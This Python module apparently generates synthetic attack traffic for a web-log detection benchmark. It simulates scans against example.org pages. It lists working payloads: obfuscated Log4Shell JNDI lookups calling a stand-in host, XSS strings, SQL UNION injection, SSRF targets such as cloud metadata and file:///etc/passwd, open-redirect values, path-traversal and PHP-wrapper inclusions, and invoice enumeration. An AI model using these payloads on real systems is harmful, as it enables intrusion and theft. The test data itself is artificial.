"""Attacks and guesses in the parameters and numbers of pages that are served, so that few answers are refusals."""

from __future__ import annotations

from bench.access import PAGES
from bench.ordinary.actors import Case, Machine
from bench.ordinary.fourth_web_answers import web_scan
from bench.ordinary.fourth_web_weaknesses import TRUTHS, ask, mixed, moments
from bench.ordinary.fourth_web_words import COMMON
from bench.ordinary.network import ARTICLES

SITE = "https://www.example.org"
LOOKUPS = ("${jndi:ldap://x.example.net/a}", "${${lower:j}ndi:ldap://x.example.net/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example.net/a}", "${jndi:dns://${hostName}.x.example.net}",
           "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example.net/a}", "${${upper:j}ndi:${lower:l}dap://x.example.net/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example.net%2Fa%7D")  # fmt: skip
SCRIPTS = ("%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", "%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", "javascript:alert(1)", "%27-alert(1)-%27", "%3Cdetails+open+ontoggle%3Dprompt(1)%3E", "%22+autofocus+onfocus%3Dalert(1)+x%3D%22",
           "%3C%2Ftitle%3E%3Cscript%3Econfirm(1)%3C%2Fscript%3E", "dlx%22%27%3E%3C", "%3CScRiPt%3Ealert(1)%3C%2FsCrIpT%3E", "%253Cscript%253Ealert(1)%253C%252Fscript%253E")  # fmt: skip
INSIDE = ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:80/", "http://localhost:22/", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO",
          "http://metadata.google.internal/computeMetadata/v1/", "http://10.0.0.1/", "dict://127.0.0.1:11211/stat", "http://oob.example.net/x")  # fmt: skip
TAKES_ADDRESS = ("url", "uri", "src", "image", "feed", "dest", "proxy", "callback")
ELSEWHERE = (
    "//evil.example.net",
    "https:evil.example.net",
    "/%5Cevil.example.net",
    "%2F%2Fevil.example.net%2F%2E%2E",
    "https://www.example.org@evil.example.net",
    "///evil.example.net/%2e%2e",
    "/%09/evil.example.net",
)
LEADS_ON = ("next", "return", "returnUrl", "redirect", "redirect_uri", "goto", "continue", "RelayState")
FILES = ("../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "/proc/self/environ", "C:%5Cwindows%5Cwin.ini",
         "expect://id", "data://text/plain;base64,PD9waHA=", "..%252f..%252fetc%252fpasswd", "/var/log/nginx/access.log%00", "zip://x.zip%23x.php", "file:///etc/hosts")  # fmt: skip
NAMES = ("id", "debug", "admin", "test", "file", "url", "cmd", "next", "lang", "view", "page", "role", "uid", "token", "sort", "mode", "type", "key", "q", "dir", "path", "data", "user", "step", "action")  # fmt: skip


@web_scan("lookups-in-parameters", "T1595.002")
def lookups_in_parameters(case: Case) -> None:
    """Put a lookup that a logger may follow into parameters of served pages, in seven spellings; every answer is 200."""
    pages = [*case.rng.sample(ARTICLES, 4), "/search", "/login"]
    ask(case, [case.machine("linux")], mixed(case, pages, ("?q=", "?x=", "?ref="), LOOKUPS)[:70], 3, (200,))


@web_scan("injection-at-search", "T1595.002")
def injection_at_search(case: Case) -> None:
    """Inject statements into the search, which answers 200 or 500: true and false, pauses, then a column more each time."""
    columns = [f"1+UNION+ALL+SELECT+{'%2C'.join(['NULL'] * n)}--+-" for n in range(1, 26)]
    paths = [f"/search?q={text}&cat={n}" for n in range(3) for text in (*TRUTHS, *columns)]
    ask(
        case,
        [case.machine("linux")],
        paths,
        0.6,
        (200, 200, 200, 500),
        even=True,
        agent="sqlmap/1.8.11#stable (https://sqlmap.org)",
    )


@web_scan("injection-by-hand", "T1595.002")
def injection_by_hand(case: Case) -> None:
    """Inject statements into the numbers of products by hand and with a browser, a minute apart, with the pages before named."""
    page = case.rng.choice(ARTICLES)
    ask(
        case,
        [case.machine("windows")],
        [f"{page}?variant={text}" for text in TRUTHS * 2],
        60,
        (200, 200, 500),
        referer=SITE + page,
    )


@web_scan("scripts-into-pages", "T1595.002")
def scripts_into_pages(case: Case) -> None:
    """Write scripts into the parameters of a dozen served pages, to see whether they come back."""
    pages = [*case.rng.sample(ARTICLES, 6), "/search", "/login", *case.rng.sample(PAGES, 4)]
    paths = [
        f"{page}{'&' if '?' in page else '?'}{name}={text}"
        for page in pages
        for name in ("q", "name")
        for text in SCRIPTS[: case.rng.randint(4, 10)]
    ]
    ask(case, [case.machine("linux")], paths, 1.5, (200,))


@web_scan("inside-by-parameter", "T1595.002")
def inside_by_parameter(case: Case) -> None:
    """Let the site fetch addresses of its inside, by eight names of parameters on pages that are served."""
    paths = mixed(case, case.rng.sample(ARTICLES, 2), [f"?{name}=" for name in TAKES_ADDRESS], INSIDE)[:110]
    ask(case, case.machines(2, "linux"), paths, 20, (200, 200, 400))


@web_scan("leads-elsewhere", "T1595.002")
def leads_elsewhere(case: Case) -> None:
    """Look for a place that sends readers to another site: the login and the start page with eight parameters and seven spellings."""
    ask(
        case,
        [case.machine("linux")],
        mixed(case, ("/login?", "/?"), [f"{name}=" for name in LEADS_ON], ELSEWHERE),
        2,
        (200, 302, 302),
    )


@web_scan("files-by-parameter", "T1595.002")
def files_by_parameter(case: Case) -> None:
    """Have files of the system included by parameters of served pages, one in two minutes from a rented network of four addresses."""
    members = [Machine(case, source, "linux") for source in case.net.neighbours(case.rng, 4)]
    ask(
        case,
        members,
        mixed(case, ("/", "/search", case.rng.choice(ARTICLES)), ("?page=", "?file=", "?lang=", "?template="), FILES)[
            :80
        ],
        120,
        (200,),
    )


@web_scan("values-of-a-parameter", "T1595.003")
def values_of_a_parameter(case: Case) -> None:
    """Try words as the value of one parameter of a served page: each answer is 200 and of the same length."""
    scanner, page = (
        case.machine("linux"),
        case.rng.choice(("/download?name=", "/search?section=", "/products/list?view=")),
    )
    for at, word in zip(moments(case, len(COMMON), 0.2, True), COMMON, strict=True):
        scanner.get(at, page + word, 200, agent="Wfuzz/3.1.0", size=2_114)


@web_scan("parameters-in-bundles", "T1595.003")
def parameters_in_bundles(case: Case) -> None:
    """Try names of parameters two dozen at a time on served pages, and halve the bundle where the answer differs."""
    paths = []
    for page in (*case.rng.sample(ARTICLES, 4), "/search", "/login"):
        for size in (25, 25, 24, 12, 6, 3, 1):
            query = "&".join(
                f"{name}={case.rng.getrandbits(32):08x}" for name in case.rng.sample(NAMES, min(size, len(NAMES)))
            )
            paths.append(f"{page}?{query}")
    ask(case, [case.machine("linux")], paths, 2, (200,))


@web_scan("items-one-by-one", "T1595.003")
def items_one_by_one(case: Case) -> None:
    """Count through the items of the interface, of which most exist, and through the accounts that own them, which are refused."""
    walker, first = case.machine("linux"), case.rng.randrange(1_000, 8_000)
    for n, at in enumerate(moments(case, 140, 2, True)):
        path = f"/api/v1/items/{first + n}" if n % 2 else f"/api/v1/users/{first + n}/profile"
        walker.get(at, path, None if n % 2 else 403, agent="python-httpx/0.27.0", site="api.example.org")


@web_scan("other-peoples-invoices", "T1595.003")
def other_peoples_invoices(case: Case) -> None:
    """Count downwards through the invoices of others after logging in, one in half a minute, all of them served."""
    ask(
        case,
        [case.machine("windows")],
        [f"/account/invoices/2026-{number}.pdf" for number in range(5_200, 5_120, -1)],
        30,
        (200,),
        referer="https://www.example.org/account/invoices",
    )
